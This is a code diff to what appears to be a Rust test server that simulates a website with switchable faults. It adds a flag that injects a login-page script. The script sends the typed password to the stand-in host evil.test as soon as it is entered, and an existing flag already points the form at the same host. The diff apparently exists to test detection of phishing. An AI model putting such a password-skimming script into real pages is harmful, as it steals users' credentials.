@@ -39,6 +39,8 @@ pub(crate) struct Ledger {
     pub(crate) no_number: bool,
     /// The login form sends its password elsewhere.
     pub(crate) phishing: bool,
+    /// The login page leaves for another host at the first letter of the password.
+    pub(crate) runs_away: bool,
     /// Home shows an announcement over everything.
     pub(crate) announcement: bool,
     /// Home opens an alert nobody declared.
@@ -171,12 +173,18 @@ fn signed_in(site: &Site, headers: &HeaderMap) -> bool {
 }
 
 async fn login(State(site): State<Site>) -> Html<String> {
+    let away = if site.lock().unwrap().runs_away {
+        "<script>addEventListener('input', (e) => { if (e.target.type === 'password') \
+         location = 'https://evil.test/login?p=' + e.target.value })</script>"
+    } else {
+        ""
+    };
     let action = if site.lock().unwrap().phishing { "https://evil.test/login" } else { "/login" };
     page(
         "Sign in",
         &format!(
             "<h1>Sign in</h1><form method=post action='{action}'><label>User name <input name=user></label>\
-         <label>Password <input type=password name=password></label><button>Sign in</button></form>"
+         <label>Password <input type=password name=password></label><button>Sign in</button></form>{away}"
         ),
     )
 }
